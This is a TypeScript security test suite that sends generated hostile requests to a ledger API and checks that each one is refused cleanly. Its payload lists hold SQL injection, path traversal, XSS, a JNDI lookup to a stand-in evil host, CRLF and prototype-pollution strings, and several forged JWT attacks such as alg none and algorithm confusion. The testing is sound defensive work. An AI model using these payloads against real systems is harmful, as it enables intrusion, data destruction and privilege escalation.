import fc from 'fast-check';
import { SignJWT } from 'jose';
import request from 'supertest';
import {
  aBudgetBody,
  aDraftBody,
  anApprovalBody,
  aPolicyBody,
  aReviewBody,
  databaseKindsUnderTest,
  expectProblem,
  internalsRevealed,
  people,
  problemFaults,
  startTestApp,
  stringsIn,
  tokenMinter,
  type Person,
  type TestApp,
} from '@ledger/testing';
import { createApp } from '../../apps/api/src/create-app';

const SECRET = 'hostile-input-suite-secret-0123456789-abcdefghijklmnop';
const ENV = { LEDGER_RATE_LIMIT: '1000000', LEDGER_JWT_SECRET: SECRET };
const ISSUER = 'https://id.council.example';
const AUDIENCE = 'ict-investment-ledger';
const PORTAL = 'https://portal.council.example';
const HARDENED_ENV = {
  ...ENV,
  LEDGER_BODY_LIMIT: '2048',
  LEDGER_CORS_ORIGINS: PORTAL,
  LEDGER_JWT_ISSUER: ISSUER,
  LEDGER_JWT_AUDIENCE: AUDIENCE,
};
const FISCAL_YEAR = '2026-27';
// Printed with every finding so a generated failure can be replayed with FC_SEED.
const SEED = Number(process.env.FC_SEED ?? Math.floor(Math.random() * 2 ** 31));

type Http = ReturnType<typeof request>;
type Response = request.Response;
type Method = 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE' | 'OPTIONS';

const INJECTIONS: readonly string[] = [
  "' OR 1=1 --",
  "' OR '1'='1",
  '" OR ""="',
  "'; DROP TABLE events; --",
  '1; SELECT pg_sleep(5)',
  "' UNION SELECT hash, data FROM events --",
  "Robert'); DELETE FROM events;--",
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%00',
  '\u0000',
  'a\u0000b',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '{"$gt":""}',
  '$where',
  '%',
  '_',
  '*',
  '\\',
  "'",
  '"',
  'NaN',
  'Infinity',
  '-1',
  '1e309',
  '0x7fffffff',
  '99999999999999999999999999',
  'null',
  'undefined',
  'true',
  '__proto__',
  'constructor',
  'prototype',
  '\uD800',
  '\uDFFF\uD800',
  '\u202Eevil',
  '\uFEFF',
  '😀'.repeat(60),
  'Ω≈ç√∫',
  '\r\nX-Injected: 1',
  ' ',
  '',
  'A'.repeat(5000),
];

// Characters Node refuses in a header value are dropped, or the client would fail before sending.
const headerSafe = (value: string) => value.replace(/[^\t\x20-\x7e\x80-\xff]/g, '');
const wellFormed = (value: string) =>
  value.replace(
    /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g,
    '\uFFFD',
  );
const encode = (value: string) => encodeURIComponent(wellFormed(value));

const oddText = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...INJECTIONS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 60 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary-ascii', maxLength: 30 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom('A', '\u0000', 'é', '😀', "'"), fc.integer({ min: 200, max: 12000 }))
      .map(([unit, times]) => unit.repeat(times)),
  },
);

const deepArray = fc
  .integer({ min: 50, max: 3000 })
  .map((depth) => JSON.parse('['.repeat(depth) + ']'.repeat(depth)) as unknown);

const oddValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 5, arbitrary: oddText },
  { weight: 1, arbitrary: fc.double() },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      0,
      -0,
      -1,
      1.5,
      2 ** 53,
      Number.MAX_VALUE,
      -Number.MAX_VALUE,
      Number.MIN_VALUE,
      1e21,
    ),
  },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: deepArray },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3, stringUnit: 'binary' }) },
  {
    weight: 1,
    arbitrary: fc.anything({ maxDepth: 3, withNullPrototype: true, withObjectString: true }),
  },
);

const keyArb = (known: readonly string[]) =>
  fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...(known.length > 0 ? known : ['value'])) },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        '__proto__',
        'constructor',
        'prototype',
        'actor',
        'roles',
        'id',
        'version',
        'position',
        '$where',
        '',
        '\u0000',
      ),
    },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  );

/** JSON text that is not what any route expects, including text JSON.stringify cannot produce. */
const RAW_BODIES: readonly string[] = [
  '',
  '{',
  '{"title":',
  '}',
  'null',
  '[]',
  '"a string"',
  '42',
  'true',
  '1e99999',
  '-1e-99999',
  '123456789012345678901234567890',
  '{"appraisalYears":1e400}',
  '{"appraisalYears":123456789012345678901234567890}',
  '{"capitalCost":1e21}',
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"title":"a","title":"b"}',
  '{"title":"\\u0000"}',
  '{"title":"\\ud800"}',
  '\u0000',
  '\uFEFF{}',
  '{"a":' + '['.repeat(20000) + ']'.repeat(20000) + '}',
  '['.repeat(100000) + ']'.repeat(100000),
  '{"strategicObjectives":' + '['.repeat(5000) + '"x"' + ']'.repeat(5000) + '}',
  '<?xml version="1.0"?><proposal/>',
  'title=x&summary=y',
];

const CONTENT_TYPES: readonly string[] = [
  'application/json',
  'application/json; charset=utf-8',
  'application/json; charset=utf-16le',
  'application/json; charset=latin1',
  'application/problem+json',
  'application/vnd.api+json',
  'text/plain',
  'text/html',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=----hostile',
  'application/xml',
  'application/octet-stream',
  '*/*',
  'application/json, text/plain',
  ';;;',
];

interface HostileRequest {
  readonly route: string;
  readonly method: Method;
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body?: string;
  /** Every string put into the request, so an echo of it is not taken for a leak. */
  readonly sent: readonly string[];
}

interface Finding {
  readonly fault: string;
  readonly route: string;
  readonly status: number;
  readonly request: string;
  readonly answer: string;
}

function summarise(hostile: HostileRequest): string {
  const headers = Object.entries(hostile.headers)
    .filter(([name]) => name !== 'Authorization')
    .map(([name, value]) => `${name}: ${JSON.stringify(value.slice(0, 80))}`)
    .join(', ');
  const body =
    hostile.body === undefined
      ? ''
      : ` body(${hostile.body.length}): ${JSON.stringify(hostile.body.slice(0, 160))}`;
  return `${hostile.method} ${hostile.path.slice(0, 240)} [${headers}]${body}`;
}

async function signHs(
  claims: Record<string, unknown>,
  options: {
    secret?: string;
    alg?: string;
    expiresIn?: string | number | null;
    issuer?: string;
    audience?: string | string[];
    notBefore?: string;
  } = {},
): Promise<string> {
  const jwt = new SignJWT(claims)
    .setProtectedHeader({ alg: options.alg ?? 'HS256', typ: 'JWT' })
    .setIssuedAt();
  if (options.expiresIn !== null) jwt.setExpirationTime(options.expiresIn ?? '1h');
  if (options.issuer) jwt.setIssuer(options.issuer);
  if (options.audience) jwt.setAudience(options.audience);
  if (options.notBefore) jwt.setNotBefore(options.notBefore);
  return jwt.sign(new TextEncoder().encode(options.secret ?? SECRET));
}

const b64url = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
const inAnHour = () => Math.floor(Date.now() / 1000) + 3600;
const ADMIN_CLAIMS = {
  sub: 'admin-1',
  name: 'Adam Admin',
  roles: ['admin', 'auditor', 'finance', 'board', 'proposer', 'reviewer'],
  authorities: ['cabinet'],
};

describe.each(databaseKindsUnderTest)('hostile input (%s)', (kind) => {
  let testApp: TestApp;
  let http: Http;
  let minter: ReturnType<typeof tokenMinter>;
  const bearers = new Map<string, string>();
  const proposals: Record<'draft' | 'submitted' | 'reviewed' | 'approved', string[]> = {
    draft: [],
    submitted: [],
    reviewed: [],
    approved: [],
  };

  async function bearerOf(person: Person): Promise<string> {
    const key = JSON.stringify(person);
    let bearer = bearers.get(key);
    if (!bearer) {
      bearer = await minter.bearer(person, '2h');
      bearers.set(key, bearer);
    }
    return bearer;
  }

  async function headPosition(on: Http = http): Promise<number> {
    const response = await on.get('/health');
    expect(response.status).toBe(200);
    return response.body.headPosition ?? 0;
  }

  async function seedWrite(
    method: 'post' | 'put',
    path: string,
    by: Person,
    body?: Record<string, unknown>,
    version?: number,
  ): Promise<Response> {
    const call = http[method](path).set('Authorization', await bearerOf(by));
    if (version !== undefined) call.set('If-Match', `"${version}"`);
    const response = await (body === undefined ? call : call.send(body));
    if (response.status >= 300)
      throw new Error(`seeding ${method} ${path} got ${response.status}: ${response.text}`);
    return response;
  }

  async function seedProposal(
    state: keyof typeof proposals,
    department = 'Finance and Revenues',
  ): Promise<void> {
    const { id } = (
      await seedWrite(
        'post',
        '/api/v1/proposals',
        people.proposer,
        aDraftBody({ fiscalYear: FISCAL_YEAR, department }),
      )
    ).body as { id: string };
    if (state !== 'draft') {
      await seedWrite('post', `/api/v1/proposals/${id}/submit`, people.proposer);
    }
    if (state === 'reviewed' || state === 'approved') {
      await seedWrite(
        'post',
        `/api/v1/proposals/${id}/reviews`,
        people.financialReviewer,
        aReviewBody({ kind: 'financial' }),
      );
      const reviewed = await seedWrite(
        'post',
        `/api/v1/proposals/${id}/reviews`,
        people.technicalReviewer,
        aReviewBody({ kind: 'technical' }),
      );
      if (state === 'approved') {
        await seedWrite(
          'post',
          `/api/v1/proposals/${id}/decision`,
          people.board,
          anApprovalBody({ authority: 'investment-board', approvedAmount: '250000.00' }),
          reviewed.body.version,
        );
      }
    }
    proposals[state].push(id);
  }

  async function exchange(hostile: HostileRequest, on: Http = http): Promise<Response> {
    const call = on[hostile.method.toLowerCase() as Lowercase<Method>](hostile.path);
    for (const [name, value] of Object.entries(hostile.headers)) call.set(name, value);
    // Sent as raw text so the bytes on the wire are exactly the generated ones.
    return hostile.body === undefined ? call : call.send(hostile.body);
  }

  /** Sends each request and records every way an answer breaks the contract, without stopping. */
  function prober() {
    const findings: Finding[] = [];
    let head: number | null = null;
    let sent = 0;
    return {
      findings,
      get sent() {
        return sent;
      },
      async probe(hostile: HostileRequest): Promise<Response> {
        if (head === null) head = await headPosition();
        const response = await exchange(hostile);
        sent += 1;
        const note = (fault: string) =>
          findings.push({
            fault,
            route: hostile.route,
            status: response.status,
            request: summarise(hostile),
            answer: response.text.slice(0, 300),
          });
        if (response.status >= 500) note('server error');
        const faults = response.status >= 400 ? problemFaults(response) : [];
        if (faults.length > 0) note(`not problem+json: ${faults.join('; ')}`);
        const look = response.status < 400 ? 'stack-only' : 'all';
        for (const leak of internalsRevealed(response.text, hostile.sent, look))
          note(`reveals internals: /${leak}/`);
        if (hostile.method !== 'GET') {
          const after = await headPosition();
          if (response.status >= 400 && after !== head)
            note(`refused request appended ${after - head} event(s)`);
          head = after;
        }
        return response;
      },
    };
  }

  /** One example per kind of fault and route, so a report names each defect once. */
  function distinct(findings: readonly Finding[]) {
    const groups = new Map<string, Finding & { count: number }>();
    for (const finding of findings) {
      const key = `${finding.fault} | ${finding.route} | ${finding.status}`;
      const group = groups.get(key);
      if (group) group.count += 1;
      else groups.set(key, { ...finding, count: 1 });
    }
    return [...groups.values()];
  }

  interface Route {
    readonly name: string;
    readonly method: Method;
    readonly template: string;
    readonly as: Person;
    readonly body?: () => Record<string, unknown>;
    readonly query?: Readonly<Record<string, string>>;
    readonly pool?: () => readonly string[];
  }

  const ROUTES: readonly Route[] = [
    {
      name: 'draft',
      method: 'POST',
      template: '/api/v1/proposals',
      as: people.proposer,
      body: () => aDraftBody({ fiscalYear: FISCAL_YEAR }),
    },
    {
      name: 'amend',
      method: 'PATCH',
      template: '/api/v1/proposals/:id',
      as: people.proposer,
      body: () => ({ title: 'A better title', capitalCost: '240000.00' }),
      pool: () => proposals.draft,
    },
    {
      name: 'submit',
      method: 'POST',
      template: '/api/v1/proposals/:id/submit',
      as: people.proposer,
      pool: () => proposals.draft,
    },
    {
      name: 'review',
      method: 'POST',
      template: '/api/v1/proposals/:id/reviews',
      as: people.technicalReviewer,
      body: () => aReviewBody({ kind: 'security' }),
      pool: () => proposals.submitted,
    },
    {
      name: 'conflict',
      method: 'POST',
      template: '/api/v1/proposals/:id/conflicts',
      as: people.auditor,
      body: () => ({ statement: 'My spouse works for a bidding supplier.' }),
      pool: () => proposals.submitted,
    },
    {
      name: 'return',
      method: 'POST',
      template: '/api/v1/proposals/:id/return',
      as: people.board,
      body: () => ({ reason: 'Needs a do-minimum option.' }),
      pool: () => proposals.submitted,
    },
    {
      name: 'withdraw',
      method: 'POST',
      template: '/api/v1/proposals/:id/withdraw',
      as: people.proposer,
      body: () => ({ reason: 'Superseded.' }),
      pool: () => proposals.draft,
    },
    {
      name: 'decide',
      method: 'POST',
      template: '/api/v1/proposals/:id/decision',
      as: people.board,
      body: () => anApprovalBody({ authority: 'investment-board', approvedAmount: '1000.00' }),
      pool: () => proposals.reviewed,
    },
    {
      name: 'benefits',
      method: 'POST',
      template: '/api/v1/proposals/:id/benefits',
      as: people.finance,
      body: () => ({
        period: '2027-28',
        cashableSaving: '38000.00',
        nonCashableBenefit: '9000.00',
        note: 'Two posts released.',
      }),
      pool: () => proposals.approved,
    },
    {
      name: 'set budget',
      method: 'PUT',
      template: '/api/v1/budgets/:fiscalYear',
      as: people.finance,
      body: () => aBudgetBody({ capitalEnvelope: '90000000.00' }),
    },
    {
      name: 'adopt policy',
      method: 'PUT',
      template: '/api/v1/policy',
      as: people.admin,
      body: () => aPolicyBody({ discountRate: '0.035' }),
    },
    {
      name: 'list',
      method: 'GET',
      template: '/api/v1/proposals',
      as: people.financialReviewer,
      query: {
        status: 'submitted',
        department: 'Finance and Revenues',
        fiscalYear: FISCAL_YEAR,
        category: 'digital-service',
        limit: '5',
        cursor: '',
      },
    },
    {
      name: 'read',
      method: 'GET',
      template: '/api/v1/proposals/:id',
      as: people.proposer,
      query: { asOf: '2026-11-28T09:30:00.000Z', atPosition: '3' },
      pool: () => proposals.submitted,
    },
    {
      name: 'history',
      method: 'GET',
      template: '/api/v1/proposals/:id/history',
      as: people.auditor,
      pool: () => proposals.approved,
    },
    {
      name: 'read budget',
      method: 'GET',
      template: '/api/v1/budgets/:fiscalYear',
      as: people.finance,
    },
    { name: 'read policy', method: 'GET', template: '/api/v1/policy', as: people.board },
    {
      name: 'summary',
      method: 'GET',
      template: '/api/v1/portfolio/summary',
      as: people.finance,
      query: { fiscalYear: FISCAL_YEAR, asOf: '2026-11-28T09:30:00.000Z' },
    },
    {
      name: 'priorities',
      method: 'GET',
      template: '/api/v1/portfolio/priorities',
      as: people.board,
      query: { fiscalYear: FISCAL_YEAR, budget: '1500000.00' },
    },
    {
      name: 'log',
      method: 'GET',
      template: '/api/v1/audit/events',
      as: people.auditor,
      query: { after: '0', limit: '10' },
    },
    {
      name: 'verify',
      method: 'GET',
      template: '/api/v1/audit/verify',
      as: people.auditor,
      query: { position: '1', hash: 'a'.repeat(64) },
    },
    { name: 'digest', method: 'GET', template: '/api/v1/audit/digest', as: people.admin },
    {
      name: 'export',
      method: 'GET',
      template: '/api/v1/audit/export',
      as: people.auditor,
      query: { format: 'csv', after: '2' },
    },
  ];
  const WRITES = ROUTES.filter((route) => route.method !== 'GET');
  const READS = ROUTES.filter((route) => route.method === 'GET');

  /** A path parameter: mostly a real one, sometimes a stranger or an attack. */
  function paramArb(
    route: Route,
    hostility: number,
  ): fc.Arbitrary<{ raw: string; sent: string[] }> {
    const known = route.template.includes(':fiscalYear')
      ? fc.constantFrom(FISCAL_YEAR, '2031-32', '2027-28')
      : fc.constantFrom(...(route.pool?.() ?? ['00000000-0000-4000-8000-000000000000']));
    return fc.oneof(
      { weight: 10, arbitrary: known.map((raw) => ({ raw, sent: [] as string[] })) },
      { weight: hostility, arbitrary: fc.uuid().map((raw) => ({ raw, sent: [] as string[] })) },
      {
        weight: hostility * 3,
        arbitrary: oddText
          .filter((text) => text.length > 0)
          .map((text) => ({ raw: encode(text).slice(0, 1500), sent: [text] })),
      },
      {
        weight: hostility,
        arbitrary: fc
          .constantFrom(
            '..',
            '.',
            '..%2F..%2Fetc%2Fpasswd',
            '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
            '%00',
            '%',
            '%zz',
            '%C0%AE%C0%AE',
            '%E0%A4%A',
            '2026-27%00',
            '2026-27;DROP',
            'x'.repeat(199),
            'x'.repeat(201),
          )
          .map((raw) => ({ raw, sent: [raw] })),
      },
    );
  }

  function pathArb(
    route: Route,
    hostility: number,
  ): fc.Arbitrary<{ path: string; sent: string[] }> {
    const match = /:(id|fiscalYear)/.exec(route.template);
    if (!match) return fc.constant({ path: route.template, sent: [] });
    return paramArb(route, hostility).map(({ raw, sent }) => ({
      path: route.template.replace(match[0], raw),
      sent,
    }));
  }

  function queryArb(
    route: Route,
    hostility: number,
  ): fc.Arbitrary<{ query: string; sent: string[] }> {
    const names = Object.keys(route.query ?? {});
    const pair = fc.tuple(
      keyArb(names.length > 0 ? names : ['q']),
      fc.oneof(
        {
          weight: 2,
          arbitrary: fc.constantFrom(...Object.values(route.query ?? {}).concat(['1'])),
        },
        { weight: hostility, arbitrary: oddText },
      ),
    );
    return fc
      .tuple(
        fc.array(pair, { maxLength: 6 }),
        fc.constantFrom(
          '',
          '',
          '',
          '&%',
          '&a=%zz',
          '&=',
          '&&',
          '&status[]=x',
          '&__proto__[polluted]=1',
          '&constructor[prototype][polluted]=1',
          '&limit=1&limit=2',
        ),
      )
      .map(([pairs, tail]) => {
        // Capped so the URL stays under Node's header limit; the 431 answer has a test of its own.
        const text = pairs
          .map(([name, value]) => `${encode(name).slice(0, 300)}=${encode(value).slice(0, 1500)}`)
          .join('&');
        const query = text + tail;
        return {
          query: query === '' ? '' : `?${query.replace(/^&/, '')}`,
          sent: pairs.flat().concat(tail === '' ? [] : [tail]),
        };
      });
  }

  function headersArb(route: Route, hostility: number) {
    const optional = (arb: fc.Arbitrary<string>) =>
      fc.oneof(
        { weight: 3, arbitrary: fc.constant(undefined) },
        { weight: hostility, arbitrary: arb },
      );
    const asciiJunk = fc.string({ unit: 'binary-ascii', maxLength: 250 }).map(headerSafe);
    return fc
      .record({
        contentType: fc.oneof(
          { weight: 8, arbitrary: fc.constant('application/json') },
          { weight: hostility, arbitrary: fc.constantFrom(...CONTENT_TYPES) },
        ),
        ifMatch: optional(
          fc.oneof(
            fc.constantFrom('"1"', '"2"', '"3"', '"6"', '*', 'W/"1"', '"0"', '"-1"', '1, 2'),
            fc.constantFrom('"9999999999999999"', '"999999999999999"', "' OR 1=1 --"),
            asciiJunk,
          ),
        ),
        idempotencyKey: optional(
          fc.oneof(fc.uuid(), asciiJunk, fc.constantFrom('', ' ', 'k'.repeat(201), "' OR 1=1 --")),
        ),
        // Positions at or below the seeded head, so the read never waits the full 5 s bound.
        minPosition: optional(
          fc.constantFrom('0', '1', ' 2 ', '-1', '1e3', '0x10', '9'.repeat(16), 'abc', '', '1.5'),
        ),
      })
      .map(({ contentType, ifMatch, idempotencyKey, minPosition }) => {
        const headers: Record<string, string> = {};
        if (route.method !== 'GET') headers['Content-Type'] = contentType;
        if (ifMatch !== undefined) headers['If-Match'] = ifMatch;
        if (idempotencyKey !== undefined) headers['Idempotency-Key'] = idempotencyKey;
        if (minPosition !== undefined) headers['X-Min-Position'] = minPosition;
        return headers;
      });
  }

  function bodyArb(route: Route, hostility: number): fc.Arbitrary<string | undefined> {
    const valid = route.body?.() ?? {};
    const fields = Object.keys(valid);
    const mutated = fc
      .array(fc.tuple(keyArb(fields.length > 0 ? fields : ['reason']), oddValue), {
        minLength: 1,
        maxLength: 3,
      })
      .map((changes) => {
        const body: Record<string, unknown> = { ...valid };
        for (const [key, value] of changes) {
          // defineProperty, so a "__proto__" key becomes a real own property in the JSON text.
          Object.defineProperty(body, key, { value, enumerable: true, writable: true });
        }
        return JSON.stringify(body);
      });
    const random = fc
      .oneof(
        oddValue,
        fc.object({ key: keyArb(fields), values: [oddValue], maxKeys: 8, maxDepth: 2 }),
      )
      .map((value) => JSON.stringify(value) ?? 'null');
    return fc.oneof(
      {
        weight: route.body ? 1 : 3,
        arbitrary: fc.constant(route.body ? JSON.stringify(valid) : undefined),
      },
      { weight: hostility * 3, arbitrary: mutated },
      { weight: hostility * 2, arbitrary: random },
      { weight: hostility, arbitrary: fc.constantFrom(...RAW_BODIES) },
    );
  }

  async function requestArb(
    routes: readonly Route[],
    hostility: { path: number; query: number; headers: number; body: number },
  ): Promise<fc.Arbitrary<HostileRequest>> {
    const bearers = new Map<Route, string>();
    for (const route of routes) bearers.set(route, await bearerOf(route.as));
    return fc.constantFrom(...routes).chain((route) =>
      fc
        .record({
          path: pathArb(route, hostility.path),
          query:
            route.method === 'GET'
              ? queryArb(route, hostility.query)
              : fc.constant({ query: '', sent: [] as string[] }),
          headers: headersArb(route, hostility.headers),
          body: route.method === 'GET' ? fc.constant(undefined) : bodyArb(route, hostility.body),
        })
        .map(({ path, query, headers, body }) => ({
          route: route.name,
          method: route.method,
          path: path.path + query.query,
          headers: { ...headers, Authorization: bearers.get(route)! },
          ...(body === undefined ? {} : { body }),
          sent: [
            ...path.sent,
            ...query.sent,
            ...Object.values(headers),
            ...(body === undefined ? [] : [body, ...stringsIn(safeParse(body))]),
          ],
        })),
    );
  }

  function safeParse(text: string): unknown {
    try {
      return JSON.parse(text);
    } catch {
      return null;
    }
  }

  async function runGenerated(
    routes: readonly Route[],
    hostility: { path: number; query: number; headers: number; body: number },
    numRuns: number,
  ) {
    const arb = await requestArb(routes, hostility);
    const probes = prober();
    await fc.assert(
      fc.asyncProperty(arb, async (hostile) => {
        await probes.probe(hostile);
        return true;
      }),
      { numRuns, seed: SEED },
    );
    expect(probes.sent).toBe(numRuns);
    expect({ seed: SEED, findings: distinct(probes.findings) }).toEqual({
      seed: SEED,
      findings: [],
    });
  }

  const prototypeKeys = Object.getOwnPropertyNames(Object.prototype).sort();

  beforeAll(async () => {
    testApp = await startTestApp(kind, createApp, ENV);
    http = request(testApp.app.getHttpServer());
    minter = tokenMinter(testApp.config);
    await seedWrite(
      'put',
      `/api/v1/budgets/${FISCAL_YEAR}`,
      people.finance,
      aBudgetBody({ capitalEnvelope: '90000000.00' }),
    );
    for (const state of ['draft', 'submitted', 'reviewed', 'approved'] as const) {
      for (let index = 0; index < 4; index += 1) await seedProposal(state);
    }
    await seedProposal('submitted', 'Adult Social Care');
  });

  afterAll(async () => {
    await testApp?.close();
  });

  describe('generated requests', () => {
    afterAll(() => {
      // The app runs in this process, so a polluted prototype would show up here.
      expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(prototypeKeys);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    });

    it('survives random and mutated JSON bodies on every write route', async () => {
      await runGenerated(WRITES, { path: 1, query: 0, headers: 1, body: 6 }, 900);
    });

    it('survives hostile If-Match, Idempotency-Key, X-Min-Position and Content-Type on every route', async () => {
      await runGenerated(ROUTES, { path: 0, query: 1, headers: 8, body: 1 }, 500);
    });

    it('survives hostile query strings on every read route', async () => {
      await runGenerated(READS, { path: 1, query: 6, headers: 0, body: 0 }, 800);
    });

    it('survives hostile path parameters on every route', async () => {
      await runGenerated(ROUTES, { path: 6, query: 1, headers: 0, body: 1 }, 500);
    });

    it('leaves every projection running after the generated requests', async () => {
      const health = await http.get('/health');
      expect({
        status: health.body.status,
        stopped: (
          health.body.projections as { failedPosition: number | null; error: string }[]
        ).filter((projection) => projection.failedPosition !== null),
      }).toEqual({ status: 'ok', stopped: [] });
    });

    it('answers methods a route does not have with problem+json', async () => {
      const probes = prober();
      const bearer = await bearerOf(people.admin);
      for (const route of ROUTES) {
        for (const method of ['DELETE', 'OPTIONS', 'PUT', 'PATCH'] as const) {
          if (method === route.method) continue;
          const path = route.template.replace(/:(id|fiscalYear)/, proposals.draft[0]);
          await probes.probe({
            route: route.name,
            method,
            path,
            headers: { Authorization: bearer, 'Content-Type': 'application/json' },
            body: '{}',
            sent: [path],
          });
        }
      }
      expect(distinct(probes.findings)).toEqual([]);
    });
  });

  describe('bearer tokens', () => {
    const header = (token: string) => `Bearer ${token}`;

    async function expectRefused(token: string): Promise<void> {
      const before = await headPosition();
      const read = await http.get('/api/v1/proposals').set('Authorization', header(token));
      const write = await http
        .put('/api/v1/budgets/2040-41')
        .set('Authorization', header(token))
        .send(aBudgetBody());
      expectProblem(read, 401, 'invalid-token');
      expectProblem(write, 401, 'invalid-token');
      expect(await headPosition()).toBe(before);
    }

    it('accepts a well-signed token, so each refusal below is down to the one flaw it carries', async () => {
      const token = await signHs(ADMIN_CLAIMS);
      const response = await http.get('/api/v1/policy').set('Authorization', header(token));
      expect(response.status).toBe(200);
    });

    it.each([
      ['none', { alg: 'none', typ: 'JWT' }],
      ['None', { alg: 'None', typ: 'JWT' }],
      ['NONE', { alg: 'NONE', typ: 'JWT' }],
      ['nOnE', { alg: 'nOnE' }],
    ])('refuses an unsigned token with alg "%s"', async (_alg, protectedHeader) => {
      const payload = { ...ADMIN_CLAIMS, exp: inAnHour(), iat: Math.floor(Date.now() / 1000) };
      await expectRefused(`${b64url(protectedHeader)}.${b64url(payload)}.`);
    });

    it('refuses a token whose header was swapped to alg none, keeping the real signature', async () => {
      const [, payload, signature] = (await signHs(ADMIN_CLAIMS)).split('.');
      await expectRefused(`${b64url({ alg: 'none', typ: 'JWT' })}.${payload}.${signature}`);
    });

    it('refuses a token signed with another key', async () => {
      await expectRefused(
        await signHs(ADMIN_CLAIMS, { secret: 'not-the-ledger-secret-0123456789-abcdefghijk' }),
      );
    });

    it('refuses a token signed with an empty-looking key', async () => {
      await expectRefused(await signHs(ADMIN_CLAIMS, { secret: ' ' }));
    });

    it('refuses an expired token', async () => {
      await expectRefused(await signHs(ADMIN_CLAIMS, { expiresIn: '-1h' }));
    });

    it('refuses an expired token minted by the ledger itself', async () => {
      await expectRefused(await minter.tokenFor(people.admin, '-10m'));
    });

    it('refuses a token without exp', async () => {
      await expectRefused(await signHs(ADMIN_CLAIMS, { expiresIn: null }));
    });

    it('refuses a token that is not valid yet (nbf in the future)', async () => {
      await expectRefused(await signHs(ADMIN_CLAIMS, { notBefore: '1h' }));
    });

    it('refuses a token without sub, or with an empty or non-string one', async () => {
      const { sub: _sub, ...withoutSub } = ADMIN_CLAIMS;
      await expectRefused(await signHs(withoutSub));
      await expectRefused(await signHs({ ...withoutSub, sub: '' }));
      await expectRefused(await signHs({ ...withoutSub, sub: 42 }));
      await expectRefused(await signHs({ ...withoutSub, sub: 'x'.repeat(256) }));
    });

    it('refuses a token whose payload was changed after signing (roles raised to admin)', async () => {
      const token = await minter.tokenFor(people.proposer);
      const [protectedHeader, payload, signature] = token.split('.');
      const claims = JSON.parse(Buffer.from(payload, 'base64url').toString('utf8'));
      const tampered = b64url({ ...claims, roles: ['admin', 'board'], authorities: ['cabinet'] });
      expect(tampered).not.toBe(payload);
      await expectRefused(`${protectedHeader}.${tampered}.${signature}`);
    });

    it('refuses an HS256 token with its signature stripped or truncated', async () => {
      const [protectedHeader, payload, signature] = (await signHs(ADMIN_CLAIMS)).split('.');
      await expectRefused(`${protectedHeader}.${payload}.`);
      await expectRefused(`${protectedHeader}.${payload}.${signature.slice(0, 20)}`);
      await expectRefused(`${protectedHeader}.${payload}`);
    });

    it('refuses a token signed with the right secret under an algorithm it does not accept (HS384, HS512)', async () => {
      await expectRefused(await signHs(ADMIN_CLAIMS, { alg: 'HS384' }));
      await expectRefused(await signHs(ADMIN_CLAIMS, { alg: 'HS512' }));
    });

    it('refuses an HMAC signature presented as RS256 (algorithm confusion)', async () => {
      const [, payload, signature] = (await signHs(ADMIN_CLAIMS)).split('.');
      await expectRefused(`${b64url({ alg: 'RS256', typ: 'JWT' })}.${payload}.${signature}`);
    });

    it.each([
      ['three empty parts', '..'],
      ['words', 'a.b.c'],
      ['base64 that is not JSON', `${b64url('x')}.${b64url('y')}.${b64url('z')}`],
      ['a very long token', `${'A'.repeat(5000)}.${'B'.repeat(5000)}.${'C'.repeat(100)}`],
      ['a token with a critical header it does not know', ''],
    ])('refuses a malformed token: %s', async (label, token) => {
      const crit = label.startsWith('a token with a critical')
        ? `${b64url({ alg: 'HS256', crit: ['x-ledger'], 'x-ledger': 1 })}.${b64url({ ...ADMIN_CLAIMS, exp: inAnHour() })}.AAAA`
        : token;
      await expectRefused(crit);
    });
  });

  describe('injection-shaped strings in filters and ids', () => {
    const FILTERS = ['status', 'department', 'fiscalYear', 'category', 'cursor'] as const;

    it('has proposals to find, so an empty page below means the filter matched nothing', async () => {
      const response = await http
        .get('/api/v1/proposals?limit=100')
        .set('Authorization', await bearerOf(people.auditor));
      expect(response.status).toBe(200);
      expect(response.body.items.length).toBeGreaterThan(5);
    });

    // A filter may find rows only by exact equality: a proposal the generated requests drafted under
    // an injection-shaped department is rightly found by it, but nothing else is.
    const strayRows = (filter: string, value: string, items: Record<string, unknown>[]) =>
      filter === 'cursor' ? items.length : items.filter((item) => item[filter] !== value).length;

    it.each(FILTERS)(
      'answers %s filters with 400 or only exactly matching rows, never a 500',
      async (filter) => {
        const bearer = await bearerOf(people.auditor);
        const answers: { value: string; status: number; stray: number | null; faults: string[] }[] =
          [];
        for (const value of INJECTIONS) {
          const response = await http
            .get(`/api/v1/proposals?${filter}=${encode(value)}`)
            .set('Authorization', bearer);
          const stray =
            response.status === 200 ? strayRows(filter, value, response.body.items) : null;
          const faults = [
            ...(response.status >= 400 ? problemFaults(response) : []),
            ...internalsRevealed(
              response.text,
              [value],
              response.status < 400 ? 'stack-only' : 'all',
            ),
          ];
          const acceptable =
            (response.status === 400 && faults.length === 0) ||
            (response.status === 200 && stray === 0 && faults.length === 0);
          // An empty value is no filter at all, so it may list every proposal.
